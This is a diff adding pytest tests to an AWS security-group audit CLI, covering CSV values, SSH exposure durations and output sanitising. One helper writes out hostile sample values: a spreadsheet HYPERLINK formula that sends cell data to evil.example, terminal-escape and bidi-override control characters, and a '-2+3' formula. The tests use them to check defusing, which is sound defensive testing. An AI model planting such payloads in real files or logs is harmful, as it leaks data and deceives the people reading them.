@@ -11,6 +11,7 @@ import pytest
 from click.testing import CliRunner
 
 from audit_toolkit.cli import main
+from real_data import cloudtrail_record
 
 SG_FIELDS = {"event_time", "event_id", "account", "region", "group_id", "action", "direction", "protocol", "from_port",
              "to_port", "peer", "actor", "source_ip", "user_agent", "error_code"}
@@ -62,6 +63,42 @@ def test_sg_changes_csv(demo, truth):
     rows = list(csv.DictReader(io.StringIO(result.stdout)))
     assert len(rows) == len(truth["sg_changes"])
     assert SG_FIELDS <= set(rows[0])
+    # Every documented value as the ground truth has it: ports as integers (22, not 22.0), all traffic as -1.
+    as_csv = lambda v: "" if v is None else str(v)  # noqa: E731
+    keys = list(truth["sg_changes"][0])
+    assert sorted([r[k] for k in keys] for r in rows) == sorted([as_csv(c[k]) for k in keys] for c in truth["sg_changes"])
+    everything = next(r for r in rows if r["protocol"] == "-1" and r["action"] == "authorize")
+    assert (everything["from_port"], everything["to_port"], everything["peer"]) == ("", "", "0.0.0.0/0")  # no ports
+
+
+def test_ssh_exposure_csv_durations_are_whole_seconds(demo):
+    result = run("ssh-exposure", "--evidence", str(demo / "evidence"), "--format", "csv")
+    bastion = next(r for r in csv.DictReader(io.StringIO(result.stdout)) if r["group_id"] == "sg-0a000000000000001")
+    assert (bastion["from_port"], bastion["to_port"], bastion["duration_seconds"]) == ("22", "22", "9015")
+
+
+def _hostile_change(tmp_path):
+    """The real tcp/22 opening, its user agent a spreadsheet formula and its error code terminal escapes."""
+    record = cloudtrail_record("AuthorizeSecurityGroupIngress", '"fromPort": 22')
+    record.update(userAgent='=HYPERLINK("http://evil.example/?"&A1)', errorCode="\x1b]0;pwned\x07Denied\u202e\x9b",
+                  errorMessage="-2+3")
+    path = tmp_path / "change.json"
+    path.write_text(json.dumps({"Records": [record]}), encoding="utf-8")
+    return path
+
+
+def test_table_shows_control_and_bidi_characters_as_escapes(tmp_path):
+    result = run("sg-changes", "--evidence", str(_hostile_change(tmp_path)))
+    assert result.stdout.splitlines()[1].split()[-1] == r"\x1b]0;pwned\x07Denied\u202e\x9b"
+    assert not any(c in result.stdout for c in "\x1b\x07\u202e\x9b")
+
+
+def test_csv_defuses_formulas_and_keeps_numbers(tmp_path):
+    result = run("sg-changes", "--evidence", str(_hostile_change(tmp_path)), "--format", "csv")
+    [row] = csv.DictReader(io.StringIO(result.stdout))
+    assert (row["user_agent"], row["error_message"]) == ("'=HYPERLINK(\"http://evil.example/?\"&A1)", "'-2+3")
+    assert (row["protocol"], row["from_port"], row["to_port"]) == ("tcp", "22", "22")
+    assert row["error_code"] == "\x1b]0;pwned\x07Denied\u202e\x9b"  # the raw value is the evidence
 
 
 def test_ssh_exposure_table_and_ports(demo):
